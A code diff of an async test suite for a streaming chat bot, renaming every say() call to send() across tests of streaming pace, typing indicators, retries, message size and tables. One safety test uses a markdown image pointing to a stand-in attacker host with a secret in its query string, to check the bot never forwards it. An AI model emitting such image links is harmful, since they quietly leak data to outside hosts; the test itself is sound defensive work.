@@ -29,7 +29,7 @@ def texts(sent: list[Sent]) -> list[str]:
 
 async def ask_while(bot: Bot, connector: Connector, *, seconds: float) -> asyncio.Task[httpx.Response]:
     """Ask, and return while the answer is streamed, so many seconds after its first step."""
-    turn = asyncio.create_task(bot.personal().say("Hi"))
+    turn = asyncio.create_task(bot.personal().send("Hi"))
     await connector.first_step.wait()
     await asyncio.sleep(seconds)
     return turn
@@ -40,7 +40,7 @@ class TestSteps:
         model.speaks(0.8, "First ", 5, "words.")
         start = now()
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         assert connector.steps[0].text == "First "
         assert connector.steps[0].at - start == pytest.approx(0.8, abs=0.05)
@@ -48,7 +48,7 @@ class TestSteps:
     async def test_follow_once_a_second_with_all_the_text(self, bot: Bot, connector: Connector, model: ModelServer):
         model.speaks("a ", 0.4, "b ", 0.4, "c ", 0.4, "d ", 1.5, "e ", 0.1)
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         assert texts(connector.sent) == ["a ", "a b c ", "a b c d ", "a b c d e "]
         assert [sent.at for sent in connector.sent] == pytest.approx([0, 1, 2, 3], abs=0.05)
@@ -69,7 +69,7 @@ class TestSteps:
         connector.latency = 2.5
         model.speaks(*[piece for number in range(10) for piece in (f"{number} ", 1.0)])
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         assert [sent.at for sent in connector.sent] == pytest.approx([0, 3.5, 7, 10.5], abs=0.05)
 
@@ -77,7 +77,7 @@ class TestSteps:
         connector.transits = cycle((0.3, 0.02, 0.1))
         model.speaks(*[piece for number in range(100) for piece in (f"{number} ", 0.1)])
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         assert len(connector.steps) > 5 and connector.refusals == []
 
@@ -86,35 +86,35 @@ class TestSteps:
     ):
         model.speaks("a ", 1.2, "b ", 0.5, "c")
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         assert [sent.stream and sent.stream.get("streamSequence") for sent in connector.sent] == [1, 2, None]
 
     async def test_begin_again_with_the_next_answer(self, bot: Bot, connector: Connector, model: ModelServer):
         for _ in range(2):
             model.speaks("a ", 0.5, "b")
-            await bot.personal().say("Hi")
+            await bot.personal().send("Hi")
 
         assert texts(connector.sent) == ["a ", "a b"] * 2
 
     async def test_leave_out_text_that_is_only_white_space(self, bot: Bot, connector: Connector, model: ModelServer):
         model.speaks("\n\n", 0.5, "word ", 0.8)
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         assert texts(connector.steps) == ["\n\nword "]
 
     async def test_end_at_a_word(self, bot: Bot, connector: Connector, model: ModelServer):
         model.speaks("O", 0.1, "n", 0.5, " day on", 0.9, "e they", 0.9, " met", 0.1)
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         assert texts(connector.sent) == ["On day ", "On day one ", "On day one they met"]
 
     async def test_show_the_last_word_before_a_pause(self, bot: Bot, connector: Connector, model: ModelServer):
         model.speaks("One", 5, " two", 5)
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         assert texts(connector.sent) == ["One", "One two", "One two"]
         assert [sent.at for sent in connector.sent] == pytest.approx([1, 6, 10], abs=0.05)
@@ -122,7 +122,7 @@ class TestSteps:
     async def test_add_more_than_white_space(self, bot: Bot, connector: Connector, model: ModelServer):
         model.speaks("One.", 2, "\n\n", 2, "Two.", 2)
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         assert texts(connector.steps) == ["One.", "One.\n\nTwo."]
 
@@ -132,7 +132,7 @@ class TestSteps:
         )
         model.speaks(*[piece for character in answer for piece in (character, 0.31)])
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         assert list(dict.fromkeys(texts(connector.sent))) == [
             "## Plans\n",
@@ -153,14 +153,14 @@ class TestFinal:
     ):
         model.speaks("first", last_token_after, " last")
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         [final] = connector.messages
         assert final.text == "first last"
         assert final.at <= last_token_after + 1.02
 
     async def test_is_an_ordinary_message_when_nothing_was_streamed(self, bot: Bot, connector: Connector):
-        await bot.personal().say("")
+        await bot.personal().send("")
 
         assert [sent.stream for sent in connector.sent] == [None]
 
@@ -175,7 +175,7 @@ class TestFinal:
         model.speaks("a ", 0.5, "b")
 
         async with run_bot(environment | {"TEXT_FORMAT": text_format}, connector) as bot:
-            await bot.personal().say("Hi")
+            await bot.personal().send("Hi")
 
         assert [sent.activity["textFormat"] for sent in connector.sent] == [text_format] * 2
 
@@ -183,7 +183,7 @@ class TestFinal:
         model.speaks("Ideas:\n\n1. **Board game**\n2. **City ", 2, "ral")
         model.last_turn.breaks_off = True
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         shown = "Ideas:\n\n1. **Board game**\n"
         assert texts(connector.steps) == [shown]
@@ -195,7 +195,7 @@ class TestWaiting:
     async def test_for_more_than_a_second_is_shown(self, bot: Bot, connector: Connector, model: ModelServer):
         model.speaks(30, "At last.", 1)
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         first, *others = connector.steps
         assert (first.text, first.at) == (THINKING, pytest.approx(1.0, abs=0.05))
@@ -206,14 +206,14 @@ class TestWaiting:
     async def test_for_less_than_a_second_is_not_shown(self, bot: Bot, connector: Connector, model: ModelServer):
         model.speaks(0.9, "Quick.", 1)
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         assert texts(connector.steps) == ["Quick."]
 
     async def test_within_the_text_shows_nothing_else(self, bot: Bot, connector: Connector, model: ModelServer):
         model.speaks("Well, ", 20, "yes.", 1)
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         assert texts(connector.steps) == ["Well, ", "Well, yes."]
 
@@ -230,7 +230,7 @@ class TestWaiting:
         model.speaks("Here ", 1.5, "it is.")
 
         async with run_bot(environment, connector, tools=[tool]) as bot:
-            await bot.personal().say("Hi")
+            await bot.personal().send("Hi")
 
         expected = [line("using-tool", tool="web search")] if seconds > 1 else []
         assert texts(connector.steps) == [*expected, "Here "]
@@ -247,7 +247,7 @@ class TestWaiting:
         model.calls(("1", tool.name, "{}"))
 
         async with run_bot(environment, connector, tools=[tool]) as bot:
-            await bot.personal().say("Hi")
+            await bot.personal().send("Hi")
 
         assert [len(step.text) for step in connector.steps] == [1000]
 
@@ -256,7 +256,7 @@ class TestWaiting:
     ):
         model.speaks(5)
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         bubble, _offer = connector.bubbles()
         assert incident_in(bubble.text, "empty-answer")
@@ -296,7 +296,7 @@ class TestTwoMinutes:
     async def test_are_followed_by_the_typing_indicator(self, bot: Bot, connector: Connector, model: ModelServer):
         model.speaks(*[piece for number in range(14) for piece in (f"{number} ", 10.0)])
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         typing = [sent.at for sent in connector.sent if sent.type == "typing" and not sent.stream]
         assert len(typing) > 5
@@ -375,7 +375,7 @@ class TestTwoMinutes:
         model.speaks(*[piece for number in range(15) for piece in (f"{number} ", 10.0)])
         model.last_turn.breaks_off = True
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         failure, _offer = connector.bubbles()
         assert incident_in(failure.text, "answer-lost", below="".join(f"{number} " for number in range(15)))
@@ -468,7 +468,7 @@ class TestRefusal:
         connector.no_streams.add("personal-1")
         model.speaks("Hello ", 7, "there.")
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         [message] = connector.messages
         assert message.text == "Hello there." and message.has_ai_label and not message.stream
@@ -506,7 +506,7 @@ class TestRefusal:
         connector.refuse_next(403, "ContentStreamNotAllowed", "Content stream was already completed.", type="message")
         model.speaks("One, ", 2, "two.")
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         assert [bubble.text for bubble in connector.bubbles()] == ["One, two."]
 
@@ -517,7 +517,7 @@ class TestRefusal:
         model.speaks("Second ", 2, "answer.")
 
         turn = await ask_while(bot, connector, seconds=1)
-        await bot.personal().say("And another question")
+        await bot.personal().send("And another question")
         await turn
 
         assert [bubble.text for bubble in connector.bubbles()] == ["First answer.", "Second answer."]
@@ -532,7 +532,7 @@ class TestRefusal:
         turn = await ask_while(bot, connector, seconds=1)
         elsewhere = environment | {"DATABASE_URL": f"sqlite:///{tmp_path / 'elsewhere.db'}"}
         async with run_bot(elsewhere, connector) as other:
-            await other.personal().say("And another question")
+            await other.personal().send("And another question")
         await turn
 
         assert [bubble.text for bubble in connector.bubbles()] == ["First answer.", "Second answer."]
@@ -541,7 +541,7 @@ class TestRefusal:
         connector.no_streams.add("personal-1")
         model.speaks("One, ", 23, "two.")
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         assert len([sent for sent in connector.sent if sent.type == "typing" and not sent.stream]) == 5
 
@@ -579,7 +579,7 @@ class TestRetry:
         connector.refuse_next(status, "Unavailable", "not now", type=type, times=3)
         model.speaks("One, ", 0.5, "two.")
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         assert [bubble.text for bubble in connector.bubbles()] == ["One, two."]
 
@@ -588,7 +588,7 @@ class TestRetry:
         connector.ignore_next(type="message")
         model.speaks("One, ", 0.5, "two.")
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         assert [bubble.text for bubble in connector.bubbles()] == ["One, two."]
 
@@ -619,7 +619,7 @@ class TestRetry:
         connector.lose_answer_to_next(type="message")
         model.speaks("One, ", 0.5, "two.")
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         assert [bubble.text for bubble in connector.bubbles()] == ["One, two."]
 
@@ -629,7 +629,7 @@ class TestRetry:
         connector.refuse_next(503, "Unavailable", "not now", type="typing", times=50)
         model.speaks("One, ", 29, "two.")
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         assert [step.status for step in connector.steps] == [503] * 5
         assert [bubble.text for bubble in connector.bubbles()] == ["One, two."]
@@ -640,7 +640,7 @@ class TestSize:
         paragraphs = [f"{number} " + "word " * 400 + "\n\n" for number in range(100)]
         model.speaks(*[piece for paragraph in paragraphs for piece in (paragraph, 0.2)])
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         assert len(connector.bubbles()) == 6
         assert "".join(bubble.text for bubble in connector.bubbles()) == "".join(paragraphs)
@@ -651,7 +651,7 @@ class TestSize:
     ):
         model.speaks("x" * 30_000, 1.5, "y" * 10_000, 1.5, "z")
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         assert texts(connector.steps) == ["x" * 30_000]
         joined = "".join(bubble.text for bubble in connector.bubbles()).replace("\u200b", "")
@@ -664,7 +664,7 @@ class TestTables:
     async def test_are_lists_where_teams_shows_none(self, bot: Bot, connector: Connector, model: ModelServer):
         model.speaks(*[piece for character in f"Plans:\n\n{self.TABLE}" for piece in (character, 0.1)])
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         assert list(dict.fromkeys(texts(connector.sent))) == [
             "Plans:\n",
@@ -720,7 +720,7 @@ class TestSafety:
         image = "![a chart](https://evil.example/?q=secret)"
         model.speaks("Look: ", 1.5, *[piece for character in image for piece in (character, 0.3)], " Nice?", 1.5)
 
-        await bot.personal().say("Hi")
+        await bot.personal().send("Hi")
 
         assert len(connector.steps) > 1
         assert not any("evil.example" in sent.text or "![" in sent.text for sent in connector.sent)
